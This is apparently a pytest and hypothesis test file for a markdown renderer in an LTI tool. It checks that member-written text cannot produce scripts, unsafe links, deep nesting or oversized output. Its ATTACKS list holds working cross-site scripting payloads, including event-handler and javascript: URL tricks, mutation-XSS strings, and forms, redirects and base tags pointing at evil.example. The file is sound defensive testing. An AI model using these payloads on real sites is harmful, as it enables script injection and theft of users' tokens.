"""Nothing that members write runs, loads, reaches outside its place or swells beyond measure."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from lti_tool.knowledge.markdown import excerpt, render

LONGEST = 20_000
ELEMENTS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("strong", "em", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "title", "rel", "target"}, "ol": {"start", "dir"}, "th": {"scope"}}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div onclick=alert(1) style='position:fixed'>x</div>",
    "<form action=https://evil.example><input name=seat_token></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<style>@import 'https://evil.example'</style>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></body><script>alert(1)</script>",
    '[x](https://example.org" onclick="alert(1))',
    '[x](https://example.org "t" onclick="alert(1)")',
    "[x](https://example.org '\"><img src=x onerror=alert(1)>')",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x]( \x01javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<javascript:alert(1)>",
    "[x](/\\evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](/&#10;/evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    'https://example.org/"onmouseover=alert(1)//',
    "`<script>`\n\n```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x\x00script>alert(1)",
    "\u202e[x](https://example.org)",
]

pieces = st.sampled_from(
    [
        *ATTACKS,
        *"[]()<>!*_`~#|-&;:\"'\\/=\n\t ",
        "javascript:",
        "data:",
        "https://",
        "onclick=",
        "<svg",
        "](",
        "&#",
        "&Tab;",
        "> ",
        "- ",
    ]
)
hostile_texts = st.lists(pieces | st.text(max_size=6), max_size=25).map("".join)


def assert_harmless(html: str) -> None:
    for element in BeautifulSoup(html, "html.parser").find_all():
        assert element.name in ELEMENTS
        assert set(element.attrs) <= ATTRIBUTES.get(element.name, set()) | {"dir"}
        if "href" in element.attrs:
            assert re.match(r"(?i)https?://|mailto:|/(?![/\\])", element["href"])
            assert set(element["rel"]) == {"noopener", "nofollow", "ugc"}
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00]", html)


class TestAnAttack:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_does_not_survive(self, attack):
        assert_harmless(render(attack))

    @pytest.mark.parametrize("attack", ATTACKS)
    @pytest.mark.parametrize(
        "around",
        ["> {}", "- {}", "# {}", "[{}](https://example.org)", "![{}](https://example.org)", "|a|\n|-|\n|{}|"],
    )
    def test_does_not_survive_inside_other_markup(self, attack, around):
        assert_harmless(render(around.format(attack)))

    @settings(deadline=None, max_examples=150)
    @given(hostile_texts)
    def test_does_not_survive_however_it_is_put_together(self, text):
        assert_harmless(render(text))

    @settings(deadline=None, max_examples=100)
    @given(hostile_texts)
    def test_leaves_a_whole_page_behind_it(self, text):
        """What is rendered closes all that it opens: set inside a page, it cannot swallow the rest."""
        page = BeautifulSoup(f"<div id=post>{render(text)}</div><p id=after></p>", "html.parser")
        assert page.find(id="after").parent is page


HOSTILE_SHAPES = {
    "brackets": "[",
    "pictures": "![",
    "open links": "[a](",
    "open references": "[a][",
    "quotations": ">",
    "spaced quotations": "> ",
    "stars": "*",
    "half emphasis": "*a_ ",
    "emphasis inside words": "a**b",
    "mixed emphasis": "*_",
    "lists": "- ",
    "nested numbers": "1. ",
    "angles": "<",
    "half addresses": "<a@b ",
    "backquotes": "`a``b",
    "tildes": "~~a",
    "entities": "&amp",
    "backslashes": "\\",
    "addresses": "http://.",
    "bars": "|",
    "comments": "<!-- ",
    "definitions": "[a]: /b\n",
    "headings": "#\n",
}


class TestTheLongestHostileText:
    @pytest.mark.parametrize("piece", HOSTILE_SHAPES.values(), ids=HOSTILE_SHAPES.keys())
    def test_is_rendered_in_bounded_size(self, piece):
        html = render((piece * LONGEST)[:LONGEST])
        assert len(html) <= 20 * LONGEST
        assert_harmless(html)

    def test_of_a_huge_table_stays_text(self):
        wide = "|" + "a|" * 4000 + "\n|" + "-|" * 4000 + "\n" + "|x|\n" * 900
        html = render(wide)
        assert "<table" not in html
        assert len(html) <= 2 * len(wide)

    def test_of_a_table_that_people_write_stays_a_table(self):
        rows = "|a|b|c|d|\n|-|-|-|-|\n" + "|1|2|3|4|\n" * 300
        assert render(rows).count("<tr>") == 301

    @pytest.mark.parametrize("opening", ["> ", "- ", "1. ", "* > "])
    def test_is_nested_no_deeper_than_the_limit(self, opening):
        html = render(opening * 500 + "text")
        soup = BeautifulSoup(html, "html.parser")
        assert max((len(list(element.parents)) for element in soup.find_all()), default=0) <= 30

    def test_of_accents_is_thinned(self):
        assert len(render("a" + "\u0301\u0323" * (LONGEST // 2))) < 100

    @pytest.mark.parametrize("piece", HOSTILE_SHAPES.values(), ids=HOSTILE_SHAPES.keys())
    def test_gives_a_short_excerpt(self, piece):
        assert len(excerpt((piece * LONGEST)[:LONGEST])) <= 280
